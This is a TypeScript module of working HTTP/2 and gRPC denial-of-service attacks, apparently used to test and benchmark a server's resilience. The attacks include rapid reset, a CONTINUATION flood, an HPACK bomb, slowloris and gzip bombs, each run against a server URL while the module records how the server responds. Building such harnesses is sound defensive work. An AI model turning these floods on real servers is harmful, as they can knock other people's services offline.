/**
 * The floods a server on the open internet meets, each run for a while
 * against a server's URL, from an address of its own (127.0.0.2, so that
 * caps per client address hit the attacker and not the canary): what
 * test/floods.test.ts holds this server to, and what bench/floods.ts
 * measures for it and for grpc-js. Each attack reconnects when the server
 * closes its connection, so it keeps going for its whole time, and tells
 * what it saw: the GOAWAY and RST_STREAM codes, HTTP statuses, and closed
 * connections.
 */
import { once } from "node:events";
import * as http2 from "node:http2";
import * as net from "node:net";
import { gzipSync } from "node:zlib";
import {
  endHeaders,
  endStream,
  frame,
  frameType,
  goawayLastStreamId,
  headerBlock,
  hpackString,
  literal,
  RawH2Client,
} from "../../test/support/h2-frames.js";
import { envelope, helloRequest } from "../../test/support/raw.js";

/** The address attacks come from. */
export const attackerAddress = "127.0.0.2";

/** What an attacker saw, event by event, counted. */
export class Seen {
  readonly counts = new Map<string, number>();
  /** Connections opened. */
  connections = 0;
  /** Connections the server closed (or refused) while the attack ran. */
  closedByServer = 0;

  add(what: string, n = 1): void {
    this.counts.set(what, (this.counts.get(what) ?? 0) + n);
  }

  /** Each event and its count, most frequent first: "GOAWAY ENHANCE_YOUR_CALM too_many_pings ×12". */
  summary(): string[] {
    return [...this.counts]
      .sort((a, b) => b[1] - a[1])
      .map(([what, n]) => (n === 1 ? what : `${what} ×${n}`));
  }

  /** Whether some event starts with `prefix`. */
  has(prefix: string): boolean {
    return [...this.counts.keys()].some((k) => k.startsWith(prefix));
  }
}

/** HTTP/2 error codes by number (RFC 9113, 7). */
const errorCodes = [
  "NO_ERROR",
  "PROTOCOL_ERROR",
  "INTERNAL_ERROR",
  "FLOW_CONTROL_ERROR",
  "SETTINGS_TIMEOUT",
  "STREAM_CLOSED",
  "FRAME_SIZE_ERROR",
  "REFUSED_STREAM",
  "CANCEL",
  "COMPRESSION_ERROR",
  "CONNECT_ERROR",
  "ENHANCE_YOUR_CALM",
  "INADEQUATE_SECURITY",
  "HTTP_1_1_REQUIRED",
];
const codeName = (code: number) => errorCodes[code] ?? `code ${code}`;

/** Everything an attack needs to know. */
export interface AttackOptions {
  /** The server's URL (http://host:port). */
  readonly url: string;
  /** How long to attack. */
  readonly durationMs: number;
}

/** One attack: a name, what it does, and the attack itself. */
export interface Attack {
  readonly name: string;
  readonly title: string;
  run(options: AttackOptions): Promise<Seen>;
}

const grpcHeaders = { "content-type": "application/grpc", te: "trailers" };
const sayHello = envelope(helloRequest("attacker"));

/** Note what the server sent on `client`: GOAWAYs (code, debug data) and RST_STREAMs (code). */
function watch(client: RawH2Client, seen: Seen, running: () => boolean): void {
  seen.connections++;
  let counted = 0;
  let goaway = false;
  const count = () => {
    for (; counted < client.frames.length; counted++) {
      const f = client.frames[counted];
      if (f === undefined) continue;
      if (f.type === frameType.goaway) {
        goaway = true;
        const debug = f.payload.subarray(8).toString("latin1");
        const last = goawayLastStreamId(f) === 2 ** 31 - 1 ? " (notice)" : "";
        seen.add(
          `GOAWAY ${codeName(f.payload.readUInt32BE(4))}${debug === "" ? "" : ` "${debug}"`}${last}`,
        );
      } else if (f.type === frameType.rstStream) {
        seen.add(`RST_STREAM ${codeName(f.payload.readUInt32BE(0))}`);
      }
    }
  };
  client.socket.on("data", () => setImmediate(count));
  void client.closed.then(() => {
    count();
    if (!running() || hungUp.has(client)) return;
    seen.closedByServer++;
    if (!goaway) seen.add("closed by the server, no GOAWAY");
  });
}

/** Connections the attacker closed itself. */
const hungUp = new WeakSet<RawH2Client>();

/** Close a connection from the attacker's side. */
function hangUp(client: RawH2Client): void {
  hungUp.add(client);
  client.socket.destroy();
}

/**
 * Run `attackOne` on a connection, and on a new one whenever the server
 * closes it, until `durationMs` have passed; then close what is open.
 */
async function onConnections(
  options: AttackOptions,
  attackOne: (client: RawH2Client, running: () => boolean) => Promise<void>,
  connect: () => Promise<RawH2Client> = () =>
    RawH2Client.connect(options.url, { localAddress: attackerAddress }),
): Promise<Seen> {
  const seen = new Seen();
  const end = performance.now() + options.durationMs;
  const running = () => performance.now() < end;
  while (running()) {
    let client: RawH2Client;
    try {
      client = await connect();
    } catch {
      seen.add("connection refused");
      await pause(10);
      continue;
    }
    watch(client, seen, running);
    // A write to a connection the server closed fails: that is the end of it.
    const attacking = attackOne(client, running).catch(() => {});
    await Promise.race([attacking, client.closed]);
    // Whatever the attack left open, the server may still close.
    await Promise.race([client.closed, until(end)]);
    hangUp(client);
    await client.closed;
  }
  return seen;
}

function pause(ms: number): Promise<void> {
  return new Promise((resolve) => setTimeout(resolve, ms));
}

function until(at: number): Promise<void> {
  return pause(Math.max(0, at - performance.now()));
}

/** Write `chunk`, and wait for room if the socket's buffer is full. */
async function send(client: RawH2Client, chunk: Buffer): Promise<void> {
  if (!client.socket.write(chunk)) {
    await Promise.race([once(client.socket, "drain"), client.closed]);
  }
}

/** HEADERS then RST_STREAM (CANCEL) on a new stream, thousands a second (CVE-2023-44487). */
const rapidReset: Attack = {
  name: "rapid-reset",
  title: "rapid reset: HEADERS then RST_STREAM, thousands a second",
  run: (options) =>
    onConnections(options, async (client, running) => {
      const block = headerBlock("/Greeter/SayHello", grpcHeaders);
      // 50 every 10 ms: some 5,000 a second, as the attack was seen.
      for (let id = 1; running() && !client.socket.destroyed; ) {
        const batch: Buffer[] = [];
        for (let i = 0; i < 50 && id < 2 ** 31 - 1; i++, id += 2) {
          batch.push(frame(frameType.headers, endHeaders, id, block));
          batch.push(
            frame(frameType.rstStream, 0, id, Buffer.from([0, 0, 0, 8])),
          );
        }
        await send(client, Buffer.concat(batch));
        await pause(10);
      }
    }),
};

/** A header block that never ends: HEADERS without END_HEADERS, then CONTINUATION frames (CVE-2024-27316). */
const continuation: Attack = {
  name: "continuation",
  title: "CONTINUATION frames without END_HEADERS",
  run: (options) =>
    onConnections(options, async (client, running) => {
      await send(
        client,
        frame(
          frameType.headers,
          0,
          1,
          headerBlock("/Greeter/SayHello", grpcHeaders),
        ),
      );
      for (let i = 0; running() && !client.socket.destroyed; i++) {
        const batch: Buffer[] = [];
        for (let k = 0; k < 50; k++) {
          batch.push(
            frame(
              frameType.continuation,
              0,
              1,
              literal(`x-${i}-${k}`, "v".repeat(100)),
            ),
          );
        }
        await send(client, Buffer.concat(batch));
        await pause(1);
      }
    }),
};

/** SETTINGS frames, each to be acknowledged, sent without reading the acknowledgements. */
const settingsFlood: Attack = {
  name: "settings-flood",
  title: "SETTINGS flood, acknowledgements unread",
  run: (options) =>
    onConnections(options, async (client, running) => {
      client.socket.pause();
      const settings = frame(
        frameType.settings,
        0,
        0,
        Buffer.from([0, 3, 0, 0, 0, 100]),
      );
      const batch = Buffer.concat(Array.from({ length: 200 }, () => settings));
      while (running() && !client.socket.destroyed) {
        await send(client, batch);
        await pause(1);
      }
      client.socket.resume();
    }),
};

/** PING frames as fast as they go. */
const pingFlood: Attack = {
  name: "ping-flood",
  title: "PING flood",
  run: (options) =>
    onConnections(options, async (client, running) => {
      const ping = frame(frameType.ping, 0, 0, Buffer.alloc(8));
      const batch = Buffer.concat(Array.from({ length: 200 }, () => ping));
      while (running() && !client.socket.destroyed) {
        await send(client, batch);
        await pause(1);
      }
    }),
};

/**
 * Streams past MAX_CONCURRENT_STREAMS: StreamHello calls (five seconds each
 * at the Greeter's pace) up to the server's limit and 100 past it, then a
 * new connection at once, about 20 a second.
 */
const streamsPastTheLimit: Attack = {
  name: "streams-past-limit",
  title: "streams past MAX_CONCURRENT_STREAMS, reconnecting",
  run: (options) =>
    onConnections(options, async (client, running) => {
      const settings = await client.next(
        (f) => f.type === frameType.settings && (f.flags & 1) === 0,
      );
      const limit = maxConcurrentStreams(settings.payload) ?? 1000;
      const block = headerBlock("/Greeter/StreamHello", grpcHeaders);
      const batch: Buffer[] = [];
      for (let i = 0, id = 1; i < limit + 100; i++, id += 2) {
        batch.push(frame(frameType.headers, endHeaders, id, block));
        batch.push(frame(frameType.data, endStream, id, sayHello));
      }
      await send(client, Buffer.concat(batch));
      // The first refusal (or 200 ms), then away and back.
      await client
        .next((f) => f.type === frameType.rstStream, 200)
        .catch(() => {});
      if (!running()) return;
      hangUp(client);
    }),
};

/** The SETTINGS_MAX_CONCURRENT_STREAMS of a SETTINGS payload, if it has one. */
function maxConcurrentStreams(payload: Buffer): number | undefined {
  for (let i = 0; i + 6 <= payload.length; i += 6) {
    if (payload.readUInt16BE(i) === 3) return payload.readUInt32BE(i + 2);
  }
  return undefined;
}

/**
 * Readers that never read: SETTINGS_INITIAL_WINDOW_SIZE 0, then StreamHello
 * calls on every stream the server allows, whose replies can never be sent;
 * PINGs unanswered, as a peer that has stopped reading.
 */
const zeroWindow: Attack = {
  name: "zero-window",
  title: "zero-window readers holding many streams",
  run: (options) =>
    onConnections(
      options,
      async (client, running) => {
        const settings = await client.next(
          (f) => f.type === frameType.settings && (f.flags & 1) === 0,
        );
        const limit = Math.min(
          maxConcurrentStreams(settings.payload) ?? 1000,
          1000,
        );
        const block = headerBlock("/Greeter/StreamHello", grpcHeaders);
        const batch: Buffer[] = [];
        for (let i = 0, id = 1; i < limit; i++, id += 2) {
          batch.push(frame(frameType.headers, endHeaders, id, block));
          batch.push(frame(frameType.data, endStream, id, sayHello));
        }
        await send(client, Buffer.concat(batch));
        // Held until the server closes the connection or the attack ends.
        while (running() && !client.socket.destroyed) await pause(20);
      },
      () =>
        RawH2Client.connect(options.url, {
          localAddress: attackerAddress,
          settings: [[4, 0]],
        }),
    ),
};

/**
 * An HPACK bomb: one 4 KiB header added to the dynamic table, then indexed
 * thousands of times in a header block of a few kilobytes, which decodes to
 * megabytes, far past the server's header list limit.
 */
const hpackBomb: Attack = {
  name: "hpack-bomb",
  title: "HPACK block decoding past the header list limit",
  run: (options) =>
    onConnections(options, async (client, running) => {
      // Literal with incremental indexing (RFC 7541, 6.2.1): the first
      // dynamic table entry, index 62, then indexed as 0x80 | 62.
      const insert = Buffer.concat([
        Buffer.from([0x40]),
        hpackString("x-bomb"),
        hpackString("b".repeat(4000)),
      ]);
      const refs = Buffer.alloc(4000, 0x80 | 62);
      for (let id = 1; running() && !client.socket.destroyed; id += 2) {
        const block = Buffer.concat([
          headerBlock("/Greeter/SayHello", grpcHeaders),
          id === 1 ? insert : Buffer.alloc(0),
          refs,
        ]);
        await send(
          client,
          frame(frameType.headers, endHeaders | endStream, id, block),
        );
        await pause(5);
      }
    }),
};

/** A 1 MiB header value, in HEADERS and CONTINUATION frames of 16 KiB. */
const bigHeader: Attack = {
  name: "big-header",
  title: "a 1 MiB header value",
  run: (options) =>
    onConnections(options, async (client, running) => {
      const block = Buffer.concat([
        headerBlock("/Greeter/SayHello", grpcHeaders),
        literal("x-big", "a".repeat(1 << 20)),
      ]);
      for (let id = 1; running() && !client.socket.destroyed; id += 2) {
        const frames: Buffer[] = [];
        for (let at = 0; at < block.length; at += 16_384) {
          const last = at + 16_384 >= block.length;
          frames.push(
            frame(
              at === 0 ? frameType.headers : frameType.continuation,
              (last ? endHeaders : 0) | (at === 0 ? endStream : 0),
              id,
              block.subarray(at, at + 16_384),
            ),
          );
        }
        await send(client, Buffer.concat(frames));
        await pause(20);
      }
    }),
};

/**
 * Thousands of connections that send the HTTP/2 preface and nothing more,
 * kept open for the whole attack, opened again as the server closes them.
 */
const idleConnections: Attack = {
  name: "idle-connections",
  title: "thousands of idle connections",
  async run(options) {
    const seen = new Seen();
    const end = performance.now() + options.durationMs;
    const running = () => performance.now() < end;
    const open = new Set<RawH2Client>();
    const target = 2000;
    while (running()) {
      const opening: Promise<void>[] = [];
      for (let i = open.size; i < target && opening.length < 200; i++) {
        opening.push(
          RawH2Client.connect(options.url, {
            localAddress: attackerAddress,
          }).then(
            (client) => {
              watch(client, seen, running);
              open.add(client);
              void client.closed.then(() => open.delete(client));
            },
            () => seen.add("connection refused"),
          ),
        );
      }
      await Promise.all(opening);
      await pause(50);
    }
    seen.add(`open at the end: ${open.size}`);
    for (const client of open) client.socket.destroy();
    await Promise.all([...open].map((c) => c.closed));
    return seen;
  },
};

/** HTTP/1.1 slowloris: many connections sending a request's headers one byte at a time, never finishing them. */
const slowloris: Attack = {
  name: "slowloris",
  title: "HTTP/1.1 slowloris: headers a byte at a time",
  async run(options) {
    const seen = new Seen();
    const { hostname, port } = new URL(options.url);
    const end = performance.now() + options.durationMs;
    const running = () => performance.now() < end;
    const headers = Buffer.from(
      `POST /Greeter/SayHello HTTP/1.1\r\nHost: ${hostname}\r\ncontent-type: application/json\r\nx-slow: ${"s".repeat(10_000)}`,
    );
    const one = async () => {
      while (running()) {
        const socket = net.connect({
          port: Number(port),
          host: hostname,
          localAddress: attackerAddress,
        });
        seen.connections++;
        let answer = "";
        socket.on("data", (d: Buffer) => {
          answer += d.toString("latin1");
        });
        socket.on("error", () => {});
        const closed = new Promise<void>((resolve) =>
          socket.once("close", () => resolve()),
        );
        await Promise.race([
          new Promise((resolve) => socket.once("connect", resolve)),
          closed,
        ]);
        for (
          let i = 0;
          i < headers.length && running() && !socket.destroyed;
          i++
        ) {
          socket.write(headers.subarray(i, i + 1));
          await Promise.race([pause(100), closed]);
        }
        if (socket.destroyed || socket.readableEnded) {
          seen.closedByServer++;
          const status = /^HTTP\/1\.1 (\d+)/.exec(answer)?.[1];
          seen.add(
            status === undefined
              ? "closed without an answer"
              : `HTTP ${status}, closed`,
          );
        }
        socket.destroy();
      }
    };
    await Promise.all(Array.from({ length: 200 }, one));
    return seen;
  },
};

/** A gzip bomb: a message of 16 MiB of zeros, compressed to some 16 KiB. */
const bomb = gzipSync(Buffer.alloc(16 << 20));

/** gRPC calls whose one message is a gzip bomb (grpc-encoding: gzip), on one connection after another. */
const gzipBombGrpc: Attack = {
  name: "gzip-bomb-grpc",
  title: "gzip bomb, gRPC",
  async run(options) {
    const seen = new Seen();
    const end = performance.now() + options.durationMs;
    const { hostname, port } = new URL(options.url);
    const head = Buffer.alloc(5);
    head[0] = 1; // compressed
    head.writeUInt32BE(bomb.length, 1);
    const body = Buffer.concat([head, bomb]);
    while (performance.now() < end) {
      const session = http2.connect(options.url, {
        createConnection: () =>
          net.connect({
            port: Number(port),
            host: hostname,
            localAddress: attackerAddress,
          }),
      });
      seen.connections++;
      session.on("error", () => {});
      const closed = once(session, "close").then(() => {
        if (performance.now() < end) seen.closedByServer++;
      });
      while (performance.now() < end && !session.closed && !session.destroyed) {
        const outcome = await new Promise<string>((resolve) => {
          const stream = session.request({
            ":method": "POST",
            ":path": "/Greeter/SayHello",
            ...grpcHeaders,
            "grpc-encoding": "gzip",
          });
          let status = "no status";
          const read = (h: http2.IncomingHttpHeaders) => {
            if (h["grpc-status"] !== undefined) {
              status = `grpc-status ${grpcCodes[Number(h["grpc-status"])] ?? h["grpc-status"]}`;
            }
          };
          stream.on("response", read);
          stream.on("trailers", read);
          stream.on("error", () => {});
          stream.resume();
          stream.on("close", () =>
            resolve(
              stream.rstCode
                ? `RST_STREAM ${codeName(stream.rstCode)}`
                : status,
            ),
          );
          stream.end(body);
        });
        seen.add(outcome);
      }
      session.destroy();
      await closed;
    }
    return seen;
  },
};

/** gRPC's status codes by number. */
const grpcCodes = [
  "OK",
  "CANCELLED",
  "UNKNOWN",
  "INVALID_ARGUMENT",
  "DEADLINE_EXCEEDED",
  "NOT_FOUND",
  "ALREADY_EXISTS",
  "PERMISSION_DENIED",
  "RESOURCE_EXHAUSTED",
  "FAILED_PRECONDITION",
  "ABORTED",
  "OUT_OF_RANGE",
  "UNIMPLEMENTED",
  "INTERNAL",
  "UNAVAILABLE",
  "DATA_LOSS",
  "UNAUTHENTICATED",
];

/** Connect unary calls whose body is a gzip bomb (content-encoding: gzip), over HTTP/1.1. */
const gzipBombConnect: Attack = {
  name: "gzip-bomb-connect",
  title: "gzip bomb, Connect",
  async run(options) {
    const seen = new Seen();
    const end = performance.now() + options.durationMs;
    const { hostname, port } = new URL(options.url);
    while (performance.now() < end) {
      seen.connections++;
      const status = await new Promise<string>((resolve) => {
        const socket = net.connect({
          port: Number(port),
          host: hostname,
          localAddress: attackerAddress,
        });
        let answer = "";
        socket.on("data", (d: Buffer) => {
          answer += d.toString("latin1");
          const m = /^HTTP\/1\.1 (\d+)/.exec(answer);
          if (m !== null && answer.includes("\r\n\r\n")) {
            resolve(
              `HTTP ${m[1]}${/"code":"(\w+)"/.exec(answer)?.[1] ? ` ${/"code":"(\w+)"/.exec(answer)?.[1]}` : ""}`,
            );
          }
        });
        socket.on("error", () => resolve("connection error"));
        socket.on("close", () => resolve("closed without an answer"));
        socket.write(
          `POST /Greeter/SayHello HTTP/1.1\r\nHost: ${hostname}\r\ncontent-type: application/proto\r\ncontent-encoding: gzip\r\ncontent-length: ${bomb.length}\r\n\r\n`,
        );
        socket.write(bomb);
        setTimeout(() => {
          resolve("no answer in 5 s");
          socket.destroy();
        }, 5000).unref();
      });
      seen.add(status);
    }
    return seen;
  },
};

/** Every attack, in the order the tests and the bench run them. */
export const attacks: readonly Attack[] = [
  rapidReset,
  continuation,
  settingsFlood,
  pingFlood,
  streamsPastTheLimit,
  zeroWindow,
  hpackBomb,
  bigHeader,
  idleConnections,
  slowloris,
  gzipBombGrpc,
  gzipBombConnect,
];
